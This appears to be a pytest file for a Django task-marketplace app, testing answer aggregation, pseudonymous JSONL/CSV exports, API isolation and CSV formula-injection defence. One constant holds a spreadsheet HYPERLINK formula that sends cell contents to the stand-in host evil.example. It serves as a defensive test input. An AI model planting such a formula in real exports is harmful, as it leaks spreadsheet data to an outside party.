import csv
import io
import json
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from marketplace import services as accounts
from tasks.models import Assignment, Task, TaskSet
from tasks.results import majority
from tests.factories import WorkerProfileFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def answered_set(requester, requester_org):
    task_set = TaskSet.objects.create(
        organization=requester_org, created_by=requester, title="Signs", kind="label",
        label_options=["stop", "yield", "other"], reward_minor=5, assignments_per_task=3,
    )  # fmt: skip
    workers = [WorkerProfileFactory(status="vetted").user for _ in range(3)]
    first = Task.objects.create(
        task_set=task_set, external_id="t1", payload_text="a", metadata={"cam": 1}
    )
    second = Task.objects.create(task_set=task_set, external_id="t2", payload_text="b")
    Task.objects.create(
        task_set=task_set, external_id="g1", payload_text="c", is_gold=True, gold_answer="stop"
    )
    now = timezone.now()
    for worker, answer in zip(workers, ["stop", "stop", "yield"], strict=True):
        Assignment.objects.create(
            task=first, task_set=task_set, worker=worker, status="submitted", answer=answer,
            seconds_spent=12,
            claimed_at=now, expires_at=now + timedelta(minutes=10), submitted_at=now,
            reward_minor=5, currency="USD",
        )  # fmt: skip
    Assignment.objects.create(  # still active: not a result
        task=second, task_set=task_set, worker=workers[0], status="active", claimed_at=now,
        expires_at=now + timedelta(minutes=10), reward_minor=5, currency="USD",
    )  # fmt: skip
    return task_set, workers


def test_majority_vote_per_kind():
    label = TaskSet(kind="label", label_options=["a", "b"])
    assert majority(label, ["b", "a", "b"]) == ("b", 0.6667)
    assert majority(label, ["b", "a"]) == ("a", 0.5)  # tie: earlier option
    multi = TaskSet(kind="multilabel", label_options=["x", "y", "z"])
    assert majority(multi, [["x", "y"], ["x"], ["x", "y"]]) == (["x", "y"], 0.6667)
    text = TaskSet(kind="transcription")
    assert majority(text, ["Hello  world", "Hello world", "Hallo"]) == ("Hello world", 0.6667)
    assert majority(label, []) == (None, None)


def test_jsonl_export_streams_pseudonymous_answers(client, requester, answered_set):
    task_set, workers = answered_set
    client.force_login(requester)
    response = client.get(reverse("task_set_export", args=[task_set.pk, "jsonl"]))
    assert response.streaming
    body = b"".join(response.streaming_content).decode()
    results = [json.loads(line) for line in body.splitlines()]
    assert [r["external_id"] for r in results] == ["t1", "t2"]  # gold left out
    first = results[0]
    assert (first["aggregated_answer"], first["confidence"]) == ("stop", 0.6667)
    assert first["metadata"] == {"cam": 1}
    assert len({a["worker"] for a in first["answers"]}) == 3
    assert results[1]["answers"] == [] and results[1]["aggregated_answer"] is None
    for worker in workers:
        assert worker.username not in body and f'"{worker.pk}"' not in body


def test_pseudonyms_are_stable_within_a_set_and_differ_across_sets(
    requester, requester_org, answered_set
):
    from tasks.results import pseudonym

    task_set, workers = answered_set
    assert pseudonym(task_set.pk, workers[0].pk) == pseudonym(task_set.pk, workers[0].pk)
    assert pseudonym(task_set.pk, workers[0].pk) != pseudonym(task_set.pk + 1, workers[0].pk)


def test_csv_export(client, requester, answered_set):
    task_set, _workers = answered_set
    client.force_login(requester)
    response = client.get(reverse("task_set_export", args=[task_set.pk, "csv"]))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["external_id"] == "t1" and rows[0]["aggregated_answer"] == "stop"
    assert rows[0]["answer_count"] == "3" and rows[1]["answer_count"] == "0"
    assert client.get(f"/requester/sets/{task_set.pk}/results.xlsx").status_code == 404


def test_results_by_api_paginated_and_isolated(requester, requester_org, outsider, answered_set):
    task_set, _workers = answered_set
    client = APIClient()
    key = accounts.create_api_key(organization=requester_org, actor=requester, name="r").secret
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
    page = client.get(f"/api/v1/task-sets/{task_set.pk}/results/?limit=1&offset=1").json()
    assert page["count"] == 2 and [r["external_id"] for r in page["results"]] == ["t2"]
    streamed = client.get(f"/api/v1/task-sets/{task_set.pk}/results.jsonl")
    assert len(b"".join(streamed.streaming_content).splitlines()) == 2
    other = APIClient()
    other.force_authenticate(outsider)
    assert other.get(f"/api/v1/task-sets/{task_set.pk}/results/").status_code == 404
    assert other.get(f"/api/v1/task-sets/{task_set.pk}/results.csv").status_code == 404


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


@pytest.fixture
def formula_set(requester, requester_org):
    """A transcription whose every answer is a spreadsheet formula."""
    task_set = TaskSet.objects.create(
        organization=requester_org, created_by=requester, title="Receipts",
        kind="transcription", reward_minor=5, assignments_per_task=2,
    )  # fmt: skip
    task = Task.objects.create(task_set=task_set, external_id="@id", payload_text="x")
    now = timezone.now()
    for _ in range(2):
        Assignment.objects.create(
            task=task, task_set=task_set, worker=WorkerProfileFactory(status="vetted").user,
            status="submitted", answer=FORMULA, claimed_at=now,
            expires_at=now + timedelta(minutes=10), submitted_at=now,
            reward_minor=5, currency="USD",
        )  # fmt: skip
    return task_set


def test_a_formula_in_results_csv_is_written_as_text_on_the_web(client, requester, formula_set):
    client.force_login(requester)
    response = client.get(reverse("task_set_export", args=[formula_set.pk, "csv"]))
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["aggregated_answer"] == "'" + FORMULA
    assert row["external_id"] == "'@id"
    # The answers stay exact inside the JSON column, which starts with "[".
    assert json.loads(row["answers"])[0]["answer"] == FORMULA


def test_a_formula_in_results_csv_is_written_as_text_through_the_api(
    requester, requester_org, formula_set
):
    client = APIClient()
    key = accounts.create_api_key(organization=requester_org, actor=requester, name="r").secret
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
    response = client.get(f"/api/v1/task-sets/{formula_set.pk}/results.csv")
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["aggregated_answer"] == "'" + FORMULA
    # JSON Lines is data, not a spreadsheet: the answer comes back exactly as typed.
    streamed = client.get(f"/api/v1/task-sets/{formula_set.pk}/results.jsonl")
    result = json.loads(b"".join(streamed.streaming_content))
    assert result["aggregated_answer"] == FORMULA
